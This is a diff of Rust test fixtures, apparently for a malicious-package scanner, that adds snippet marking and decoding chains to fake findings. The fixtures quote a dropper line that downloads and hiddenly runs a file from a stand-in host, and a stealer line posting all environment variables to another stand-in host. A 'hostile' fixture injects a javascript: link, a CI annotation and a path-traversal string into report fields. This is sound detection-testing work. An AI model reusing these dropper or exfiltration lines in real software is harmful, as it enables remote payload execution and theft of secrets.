@@ -41,7 +41,16 @@ fn site(line: u32, layer: u16, layer_line: u32, snippet: &str) -> Site {
         layer,
         layer_line,
         snippet: Arc::from(snippet),
+        mark_start: 0,
+        mark_length: u32::try_from(snippet.chars().count()).unwrap(),
     }
+}
+
+/// The site with this part of its snippet marked.
+fn marking(mut site: Site, part: &str) -> Site {
+    site.mark_start = u32::try_from(site.snippet.split(part).next().unwrap().chars().count()).unwrap();
+    site.mark_length = u32::try_from(part.chars().count()).unwrap();
+    site
 }
 
 fn step(event: u32, step: &str, detail: &str, site: &Site) -> Evidence {
@@ -65,6 +74,7 @@ fn fact(rule: &str, title: &str, technique: Technique, message: &str) -> Finding
         weight: 0.4,
         message: Arc::from(message),
         site: None,
+        decoding: Vec::new(),
         trigger: Trigger::Data,
         origins: Vec::new(),
         attack: Vec::new(),
@@ -80,6 +90,7 @@ pub(crate) fn benign() -> Scan {
 
 fn dropper_finding() -> Finding {
     let fetch = site(14, 2, 3, "body = rq.get('http://cdn.invalid/stage.bin').content");
+    let fetch = marking(fetch, "rq.get('http://cdn.invalid/stage.bin')");
     let write = site(14, 2, 4, "open(path, 'wb').write(body)");
     let run = site(14, 2, 5, "subprocess.Popen([path], creationflags=0x08000000)");
     Finding {
@@ -92,6 +103,7 @@ fn dropper_finding() -> Finding {
         weight: 6.25,
         message: Arc::from("the file from `http://cdn.invalid/stage.bin` is written and started"),
         site: Some(run.clone()),
+        decoding: ["base64.b64decode", "zlib.decompress"].repeat(2).into_iter().map(Arc::from).collect(),
         trigger: Trigger::Install,
         origins: vec![Arc::from("network (requests.get, line 3)"), Arc::from("file (open, line 4)")],
         attack: vec![Arc::from("T1105"), Arc::from("T1059.006")],
@@ -108,6 +120,7 @@ fn stealer_finding() -> Finding {
     let read = site(21, 0, 21, "secrets = dict(os.environ)");
     let mut send = site(22, 0, 22, "requests.post('https://hook.invalid/in', json=secrets)");
     send.end_column = 59;
+    let read = marking(read, "os.environ");
     Finding {
         rule: Arc::from("environment-to-network"),
         title: Arc::from("Sends environment variables out"),
@@ -118,6 +131,7 @@ fn stealer_finding() -> Finding {
         weight: 4.0,
         message: Arc::from("the whole environment goes to `https://hook.invalid/in`"),
         site: Some(send.clone()),
+        decoding: vec![Arc::from("base64.b64decode")],
         trigger: Trigger::Import,
         origins: vec![Arc::from("env (os.environ, line 21)")],
         attack: vec![Arc::from("T1082")],
@@ -211,9 +225,11 @@ pub(crate) fn hostile() -> Scan {
     finding.title = Arc::from(format!("title {evil}"));
     finding.message = Arc::from(format!("[link](javascript:x) ##[error] {evil}"));
     finding.origins = vec![Arc::from(evil)];
+    finding.decoding = vec![Arc::from(evil)];
     if let Some(site) = &mut finding.site {
         site.member = Arc::from(format!("../../{evil}.py"));
         site.snippet = Arc::from(format!("x = '{evil}'; {} requests.post(secrets)", "漢字".repeat(60)));
+        *site = marking(site.clone(), "requests.post(secrets)");
     }
     finding.evidence[1].site = finding.site.clone();
     scan.findings = vec![finding];
